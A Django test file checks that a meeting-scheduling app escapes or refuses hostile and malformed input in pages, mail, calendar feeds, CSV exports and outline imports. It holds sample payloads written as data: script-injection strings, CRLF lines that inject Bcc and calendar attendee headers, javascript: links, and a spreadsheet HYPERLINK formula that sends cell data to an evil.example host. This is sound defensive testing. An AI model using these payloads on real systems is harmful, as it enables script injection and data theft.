"""Hostile and broken input, end to end: what people (or attackers) type must come out as text
everywhere — pages, htmx fragments, mail, calendar feeds, CSV exports — and broken input gets
a clear refusal, never a 500 and never half a change.

Each test names the input it tries; docs/security.md ("What was tried") lists them with the
outcome.
"""

import csv
import datetime
import email
import email.policy
import io
import re

import icalendar
import pytest
from django.test import Client
from django.utils import timezone
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adcmeet.lib.outline import OutlineError, parse_outline
from adcmeet.meetings import actions
from adcmeet.meetings.mail import outbox
from adcmeet.meetings.models import (
    AgendaItem,
    Attendance,
    Meeting,
    MeetingSeries,
    OutboundMail,
    Outcome,
)
from deliverables.models import Deliverable, Project, Roadmap
from taskforces.models import Checkpoint, OutlineItem, TaskForce
from tests import urlwalk
from tests.test_access_matrix import changed_tables, snapshot

# Markup, an event handler, quotes, and a line break followed by what would be a new mail
# header or calendar property if it were copied into one unescaped.
XSS = '<script>alert("x")</script><img src=x onerror=alert(1)>"\'&'
CRLF = "\r\nBcc: victim@example.org\r\nATTENDEE:mailto:evil@example.org\r\nX-EVIL:1"
MARKDOWN = '[click](javascript:alert(3)) <a href="javascript:alert(4)">a</a> <b onclick=x()>b</b>'
HOSTILE = XSS + CRLF
CSV_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def hostile_world() -> urlwalk.World:
    """The walker's world with every text field people can type into made hostile."""
    world = urlwalk.build_world()
    MeetingSeries.objects.update(name="Series " + HOSTILE, description=HOSTILE, location=HOSTILE)
    Meeting.objects.update(
        title="Meeting " + HOSTILE, location=HOSTILE, minutes=HOSTILE + MARKDOWN,
        cancel_reason=HOSTILE,
    )  # fmt: skip
    AgendaItem.objects.update(
        title="Item " + HOSTILE, notes=HOSTILE + MARKDOWN, minutes=HOSTILE + MARKDOWN,
        presenter_affiliation=HOSTILE,
    )  # fmt: skip
    AgendaItem.objects.filter(presenter__isnull=True).update(presenter_name="Guest " + HOSTILE)
    world.action.text = "Action " + HOSTILE
    world.action.save()
    Outcome.objects.update(text="Decision " + HOSTILE)
    Attendance.objects.create(
        meeting=world.meeting, name="Guest " + HOSTILE, affiliation=HOSTILE, invitee=True
    )
    Deliverable.objects.update(title=CSV_FORMULA + HOSTILE, notes=HOSTILE + MARKDOWN)
    Roadmap.objects.update(name="Roadmap " + XSS)
    Project.objects.update(name="Project " + XSS, description=HOSTILE)
    for task_force in TaskForce.objects.all():  # names are unique
        task_force.name = f"TF{task_force.pk} {XSS}"
        task_force.scope = HOSTILE + MARKDOWN
        task_force.save(update_fields=["name", "scope"])
    OutlineItem.objects.update(text="Outline " + XSS)
    Checkpoint.objects.update(
        name="Checkpoint " + HOSTILE, location=HOSTILE, description=HOSTILE + MARKDOWN
    )
    for role in ("developer", "convener", "outsider"):
        user = world.user(role)
        user.name = f"{role} {HOSTILE}"
        user.affiliation = HOSTILE
        user.save()
    for obj in ("series", "private_series", "meeting", "item", "deliverable", "task_force"):
        getattr(world, obj).refresh_from_db()
    return world


@pytest.fixture
def world(db):
    return hostile_world()


def _walk_html(world, role: str, htmx: bool) -> list[str]:
    client = Client(raise_request_exception=False)
    if role != "anonymous":
        client.force_login(world.user(role))
    headers = {"HX-Request": "true"} if htmx else {}
    problems, shown = [], 0
    for route in urlwalk.routes():
        url = route.url(world)
        response = client.get(url, headers=headers)
        if response.status_code >= 500:
            problems.append(f"GET {url}: {response.status_code}")
            continue
        kind = response.get("Content-Type", "")
        if kind.startswith("text/html"):
            page = response.content.decode()
            shown += "&lt;script&gt;alert(" in page
            for problem in urlwalk.inline_markup_problems(page):
                problems.append(f"GET {url} as {role}: {problem}")
    # The hostile text did reach the pages, as text (else this walk proved nothing).
    if shown < 5:
        problems.append(f"only {shown} pages showed the hostile text at all")
    return problems


@pytest.mark.parametrize("role", ["anonymous", "developer", "convener", "staff"])
@pytest.mark.parametrize("htmx", [False, True], ids=["page", "htmx"])
def test_markup_typed_into_any_field_is_shown_as_text_on_every_page(world, role, htmx):
    problems = _walk_html(world, role, htmx)
    assert problems == [], "\n".join(problems)


def _calendars(world) -> dict[str, bytes]:
    client = Client()
    series = world.series
    return {
        "series feed": client.get(f"/calendar/{series.slug}.ics").content,
        "private series feed": client.get(
            f"/calendar/{world.private_series.slug}.ics", {"token": world.private_series.feed_token}
        ).content,
        "personal feed": client.get(
            f"/calendar/me/{world.user('developer').calendar_token}.ics"
        ).content,
        "meeting.ics": client.get(f"/meetings/{world.meeting.pk}/meeting.ics").content,
    }


def _assert_no_injected_lines(name: str, body: bytes):
    lines = body.decode().replace("\r\n ", "").split("\r\n")  # unfold
    assert not [
        line for line in lines if line.startswith(("X-EVIL", "BCC", "ATTENDEE:mailto:evil"))
    ], name


def test_line_breaks_in_titles_never_add_a_calendar_property(world):
    for name, body in _calendars(world).items():
        assert body.startswith(b"BEGIN:VCALENDAR"), name
        _assert_no_injected_lines(name, body)
        calendar = icalendar.Calendar.from_ical(body)
        for event in calendar.walk("VEVENT"):
            assert "X-EVIL" not in event, name
            attendees = event.get("ATTENDEE", [])
            attendees = attendees if isinstance(attendees, list) else [attendees]
            assert all("evil@example.org" not in str(a) for a in attendees), name


def test_a_published_agenda_mail_carries_the_text_but_no_injected_header_or_markup(world):
    meeting = Meeting.objects.get(pk=world.meeting.pk)
    Meeting.objects.filter(pk=meeting.pk).update(state=Meeting.State.DRAFT, revision=0)
    meeting.refresh_from_db()
    with_invitee = world.item
    with_invitee.presenter = None
    with_invitee.presenter_name = "Guest\r\nBcc: victim@example.org"
    with_invitee.presenter_email = "guest@example.org"
    with_invitee.save()

    actions.publish_meeting(
        meeting=meeting, version=meeting.version, by=world.user("convener"), without_focus=True
    )

    rows = list(OutboundMail.objects.all())
    assert rows
    for row in rows:
        assert "\r" not in row.subject
        assert "\n" not in row.subject
        # Mail clients need inline styles (and no CSP applies to mail); scripts, handlers and
        # javascript: links are what must never be there.
        active = [p for p in urlwalk.inline_markup_problems(row.body_html) if "style" not in p]
        assert active == []
        assert "<script>" not in row.body_html
        if row.ics:
            _assert_no_injected_lines("invite", row.ics.encode())
        message = email.message_from_bytes(
            outbox.build(row).message().as_bytes(), policy=email.policy.default
        )
        assert message["Bcc"] is None
        assert message["X-EVIL"] is None
        assert len(message.get_all("To")) == 1
        # The typed text may appear, quoted, as a display name; it is never an address.
        addresses = [a.addr_spec for a in message["To"].addresses]
        assert len(addresses) == 1
        assert "victim@example.org" not in addresses


def test_a_csv_export_never_starts_a_cell_with_a_formula(world):
    response = Client().get("/roadmap/export.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    titles = [cell for cell in cells if "HYPERLINK" in cell]
    assert titles
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in titles)


# --- unknown ids, stale versions, oversize bodies --------------------------------------------


def _with_unknown_ids(route: urlwalk.Route) -> str | None:
    """The route with every path argument naming nothing: ids that do not exist, slugs and
    tokens nobody has."""
    if "<" not in route.route:
        return None

    def missing(match: re.Match) -> str:
        return "999999" if match.group(1) == "int" else "no-such-thing"

    return "/" + re.sub(r"<(?:([^>:]+):)?[^>]+>", missing, route.route)


def test_unknown_ids_answer_404_in_pages_and_htmx_requests_never_500(world):
    client = Client(raise_request_exception=False)
    client.force_login(world.user("staff"))
    problems = []
    for route in urlwalk.routes():
        url = _with_unknown_ids(route)
        if url is None:
            continue
        for headers in ({}, {"HX-Request": "true"}):
            for method in ("get", "post"):
                response = getattr(client, method)(url, headers=headers)
                if response.status_code not in (404, 405):
                    problems.append(f"{method.upper()} {url} {headers}: {response.status_code}")
    assert problems == [], "\n".join(problems)


def test_a_stale_agenda_change_is_refused_with_409_and_changes_nothing(world):
    client = Client()
    client.force_login(world.user("convener"))
    meeting = world.meeting
    stale = meeting.version
    Meeting.objects.filter(pk=meeting.pk).update(version=stale + 1)  # someone else saved

    before = snapshot()
    response = client.post(
        f"/meetings/{meeting.pk}/items/add/",
        {
            "version": stale,
            "section": "hot",
            "add-hot-title": "Mine",
            "add-hot-duration_minutes": "10",
        },
    )

    assert response.status_code == 409
    assert changed_tables(before, snapshot()) == []
    assert "Mine" in response.content.decode()  # what was typed is kept


def test_a_stale_deliverable_change_is_refused_with_409_and_changes_nothing(world):
    client = Client()
    client.force_login(world.user("developer"))
    deliverable = world.deliverable

    before = snapshot()
    response = client.post(
        f"/deliverables/{deliverable.pk}/status/",
        {"version": deliverable.version - 1 or 999, "status": "done"},
    )

    assert response.status_code == 409
    assert changed_tables(before, snapshot()) == []


def test_an_oversize_request_body_is_refused_before_any_view_runs(world, settings):
    client = Client(raise_request_exception=False)
    client.force_login(world.user("convener"))
    before = snapshot()

    response = client.post(
        f"/meetings/{world.meeting.pk}/items/add/",
        {
            "version": world.meeting.version,
            "section": "hot",
            "add-hot-title": "x",
            "add-hot-notes": "x" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1),
        },
    )

    # The request-limits middleware refuses the body as too large before Django parses it.
    assert response.status_code == 413
    assert changed_tables(before, snapshot()) == []


def _add_item(client, meeting, **fields):
    data = {"version": meeting.version, "section": "hot", "add-hot-duration_minutes": "10"}
    data |= {f"add-hot-{name}": value for name, value in fields.items()}
    return client.post(f"/meetings/{meeting.pk}/items/add/", data)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("title", "T" * 301, "at most 300 characters"),
        ("duration_minutes", "0", "greater than or equal to 1"),
        ("duration_minutes", "-15", "greater than or equal to 1"),
        ("duration_minutes", "100000", "less than or equal to 240"),
        ("duration_minutes", "9" * 40, "less than or equal to 240"),
        ("duration_minutes", "ten", "Enter a whole number"),
        ("presenter_email", "a@b.c\r\nBcc: x@y.z", "valid email"),
    ],
    ids=["long-title", "zero", "negative", "huge", "enormous", "words", "crlf-email"],
)
def test_broken_agenda_input_gets_a_clear_message_and_nothing_is_saved(
    world, field, value, message
):
    client = Client()
    client.force_login(world.user("convener"))
    fields = {"title": "Kept title", field: value}
    before = snapshot()

    response = _add_item(client, world.meeting, **fields)

    assert 400 <= response.status_code < 500
    page = response.content.decode()
    assert message in page
    assert changed_tables(before, snapshot()) == []
    if field != "title":
        assert "Kept title" in page  # the rest of what was typed is still there


@pytest.mark.parametrize(
    "day",
    [
        "0001-01-01",
        "1900-01-01",
        "9999-12-31",
        "2031-02-30",
        "31/12/2031",
    ],
)
def test_moving_a_meeting_to_an_absurd_date_is_refused_or_done_never_a_500(world, day):
    client = Client(raise_request_exception=False)
    client.force_login(world.user("convener"))
    meeting = world.meeting

    response = client.post(
        f"/meetings/{meeting.pk}/move/",
        {"version": meeting.version, "move-date": day, "move-time": "23:59"},
    )

    assert response.status_code < 500
    meeting.refresh_from_db()
    if response.status_code >= 400:
        assert meeting.version == world.meeting.version  # nothing changed
        assert meeting.start == world.meeting.start


@pytest.mark.parametrize("due", ["0001-01-01", "9999-12-31", "10000-01-01", "2031-13-01"], ids=str)
def test_absurd_action_due_dates_never_break_a_page(world, due):
    client = Client(raise_request_exception=False)
    client.force_login(world.user("convener"))

    response = client.post(
        f"/meetings/{world.meeting.pk}/actions/add/",
        {"version": world.meeting.version, "action-text": "Follow up", "action-due": due},
    )

    assert response.status_code < 500
    for url in (f"/meetings/{world.meeting.pk}/minutes/", "/me/", f"/meetings/{world.meeting.pk}/"):
        assert client.get(url).status_code == 200, url


# --- outline imports ----------------------------------------------------------------------------

MALFORMED_OUTLINES = {
    "binary": "\x00\x01\x02\xff\ufffe garbage",
    "only-indentation": "        \n\t\t\n   - \n",
    "too-deep": "\n".join("  " * n + "- level" for n in range(0, 60)),
    "mixed-tabs": "- April\n\t- item\n    - other\n",
    "huge-line": "- " + "x" * 200_000,
    "many-lines": "\n".join(f"- item {n}" for n in range(20_000)),
    "markup": "- April\n  - <script>alert(1)</script>\n  - [x](javascript:alert(2))\n",
    "crlf": "- April\r\n  - item\r\n\r\n",
    "headings-only": "# A\n## B\n### C\n#### D\n##### E\n###### F\n####### G\n",
}


@pytest.mark.parametrize("text", MALFORMED_OUTLINES.values(), ids=MALFORMED_OUTLINES.keys())
def test_a_malformed_roadmap_import_is_explained_and_imports_nothing(world, text):
    client = Client(raise_request_exception=False)
    client.force_login(world.user("manager"))
    before = snapshot()

    preview = client.post(f"/roadmaps/{world.roadmap.pk}/import/", {"text": text})
    confirm = client.post(
        f"/roadmaps/{world.roadmap.pk}/import/", {"text": text, "action": "confirm"}
    )

    assert preview.status_code < 500
    assert confirm.status_code < 500
    assert changed_tables(before, snapshot()) == []  # confirming unseen text never imports
    assert urlwalk.inline_markup_problems(preview.content.decode()) == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=400))
def test_the_outline_reader_either_reads_text_or_explains_every_bad_line(text):
    nodes, errors = _read(parse_outline, text)
    lines = text.splitlines()
    assert nodes is not None or errors
    assert all(1 <= line_no <= len(lines) and message for line_no, message in errors)


def _read(function, *args, **kwargs):
    """(result, []) or (None, the OutlineError's errors); any other exception propagates."""
    try:
        return function(*args, **kwargs), []
    except OutlineError as exc:
        return None, exc.errors


_outline_lines = st.lists(
    st.tuples(
        st.integers(min_value=0, max_value=6),
        st.sampled_from(["- ", "* ", "# ", "## ", "", "1. "]),
        st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=40),
    ),
    max_size=25,
).map(lambda rows: "\n".join("  " * depth + mark + text for depth, mark, text in rows))


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(text=_outline_lines)
def test_the_roadmap_importer_imports_all_or_nothing_for_any_outline(db, text):
    from deliverables.importer import import_roadmap_outline

    roadmap = Roadmap.objects.filter(name="Hypothesis").first() or Roadmap.objects.create(
        name="Hypothesis", year=2031
    )
    before = Deliverable.objects.filter(roadmap=roadmap).count()
    result, errors = _read(import_roadmap_outline, text, roadmap=roadmap)
    after = Deliverable.objects.filter(roadmap=roadmap).count()
    if result is None:
        assert errors
        assert after == before
    else:
        assert after == before + len(result.new_deliverables)


def test_far_future_and_past_meetings_render_everywhere(world):
    """Data that arrived through the admin or an import, at the edges of what dates allow."""
    series = world.series
    for day in (datetime.date(1, 1, 3), datetime.date(9999, 12, 29)):
        Meeting.objects.create(
            series=series,
            start=series.start_on(day)
            if day.year > 1
            else timezone.make_aware(datetime.datetime(1, 1, 3, 12, 0), datetime.UTC),
            scheduled_for=day,
            title=f"Edge {day.year}",
        )
    client = Client(raise_request_exception=False)
    for url in ("/", "/meetings/", f"/calendar/{series.slug}.ics"):
        assert client.get(url).status_code == 200, url
